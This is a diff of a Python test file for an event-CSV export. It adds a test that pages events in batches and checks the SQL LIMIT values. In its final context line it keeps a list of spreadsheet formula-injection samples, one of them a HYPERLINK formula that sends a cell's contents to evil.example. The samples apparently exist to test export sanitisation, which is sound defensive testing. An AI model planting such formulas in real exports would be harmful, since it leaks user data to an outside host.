@@ -8,8 +8,7 @@ from datetime import datetime, timedelta, timezone
 
 import sqlalchemy as sa
 
-from app.extensions import db
-from app.extensions import database
+from app.extensions import database, db
 from app.services.events import EventFilter, iter_events
 from tests.helpers import make_partitions, post_event, wait_until
 
@@ -129,12 +128,31 @@ def test_a_client_that_stops_reading_an_export_holds_no_transaction(app, client)
     assert len(read_csv(body)) == 3000
 
 
-def test_iter_events_yields_in_time_order_in_batches(app):
+def test_iter_events_reads_batch_size_rows_a_page_in_time_order(app):
+    """The export's pages are what it asks for: `batch_size` rows each (one more to know a page follows),
+    read one page ahead of the rows yielded, never everything at once."""
     insert_events(app, 25)
+    limits: list[int] = []
+
+    def note_limit(_conn, _cursor, statement, parameters, _context, _many) -> None:
+        if "FROM events" in statement and " LIMIT " in statement:
+            name = statement.rsplit("LIMIT", 1)[1].split("%(", 1)[1].split(")s", 1)[0]  # LIMIT %(param_n)s
+            limits.append(parameters[name])
+
     with app.app_context():
-        events = list(iter_events(database(), EventFilter(user_id=7, action="page_view"), batch_size=4))
-    assert len(events) == 13
-    assert [event.occurred_at for event in events] == sorted(event.occurred_at for event in events)
+        engine = database().read_engine
+        sa.event.listen(engine, "before_cursor_execute", note_limit)
+        try:
+            events = iter_events(database(), EventFilter(user_id=7, action="page_view"), batch_size=4)
+            first = next(events)
+            assert len(limits) == 1, "the first event leaves after one page, not after reading every row"
+            rest = list(events)
+        finally:
+            sa.event.remove(engine, "before_cursor_execute", note_limit)
+    assert len([first, *rest]) == 13
+    assert limits == [5] * 4  # pages of 4 (+1 to see a next page): 4, 4, 4 and the last 1
+    times = [event.occurred_at for event in [first, *rest]]
+    assert times == sorted(times)
 
 
 FORMULAS = ("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1")
